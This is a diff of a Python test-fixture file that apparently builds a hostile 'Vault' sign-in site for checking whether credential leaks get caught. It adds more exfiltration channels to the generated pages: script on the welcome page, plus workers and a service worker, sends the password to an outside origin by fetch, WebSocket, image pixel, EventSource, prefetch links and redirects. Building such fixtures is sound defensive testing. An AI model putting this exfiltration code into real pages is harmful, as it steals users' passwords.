@@ -56,19 +56,22 @@ FAULTS: dict[str, Reply] = {
 
 def site(outside: str) -> dict[str, str]:
     """The hostile pages: a sign-in form sent by GET (the password lands in the URL), and a welcome
-    page that shows it back encoded every way and reaches for the outside origin every way."""
+    page that shows it back encoded every way and reaches for the outside origin every way (itself,
+    from its workers, dedicated, shared and service, by prefetch and preconnect)."""
     show = ('document.title = "Vault - " + pw; say("b64", "token " + btoa(pw)); '
             'say("json", "data " + JSON.stringify({pw})); say("pct", "link " + encodeURIComponent(pw)); '
             'say("ent", "html " + pw.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;")'
             '.replace(/"/g, "&quot;"));')
     leave = (f'new WebSocket("{outside.replace("http", "ws")}/socket"); '
              f'fetch("{outside}/beacon?pw=" + encodeURIComponent(pw)).catch(() => {{}}); '
-             f'new Image().src = "{outside}/pixel?pw=" + encodeURIComponent(pw);')
+             f'new Image().src = "{outside}/pixel?pw=" + encodeURIComponent(pw); new EventSource("{outside}/stream"); '
+             'new Worker("worker.js"); new SharedWorker("shared.js"); navigator.serviceWorker.register("sw.js");')
+    links = f'<link rel="prefetch" href="{outside}/prefetch"><link rel="preconnect" href="{outside}">'
     return {
         "index.html": '<!doctype html><title>Vault sign in</title><h1>Vault</h1><form action="welcome.html">'
                       '<label>Username <input name="user"></label><label>Password <input name="pw" type="password">'
                       '</label><button type="submit">Sign in</button></form>',
-        "welcome.html": '<!doctype html><title>Vault</title><h1>Welcome</h1><p id="b64"></p><p id="json"></p>'
+        "welcome.html": f'<!doctype html><title>Vault</title>{links}<h1>Welcome</h1><p id="b64"></p><p id="json"></p>'
                         '<p id="pct"></p><p id="ent"></p><script>const pw = new URLSearchParams(location.search)'
                         '.get("pw") || ""; const say = (id, text) => { document.getElementById(id).textContent = '
                         f'text; }}; {show} {leave}</script><iframe src="{outside}/frame"></iframe>'
@@ -79,7 +82,15 @@ def site(outside: str) -> dict[str, str]:
                         'id="copy"><button>Send feedback</button></form><a href="help.html">Account help</a>'
                         '<a href="index.html">Sign out</a><script>document.getElementById("copy").value = pw;</script>',
         "help.html": f'<!doctype html><meta http-equiv="refresh" content="0;url={outside}/meta"><h1>Help</h1>',
+        "worker.js": leave_from_worker(outside, "worker"), "shared.js": leave_from_worker(outside, "shared"),
+        "sw.js": f'fetch("{outside}/service-worker").catch(() => {{}});',
     }
+
+
+def leave_from_worker(outside: str, kind: str) -> str:
+    """A worker's ways out, which the page's own routes do not see."""
+    return (f'fetch("{outside}/{kind}-fetch").catch(() => {{}}); new WebSocket("{outside.replace("http", "ws")}/{kind}'
+            f'-socket"); new EventSource("{outside}/{kind}-stream");')
 
 
 def write_scenario(root: Path, outside: str) -> None:
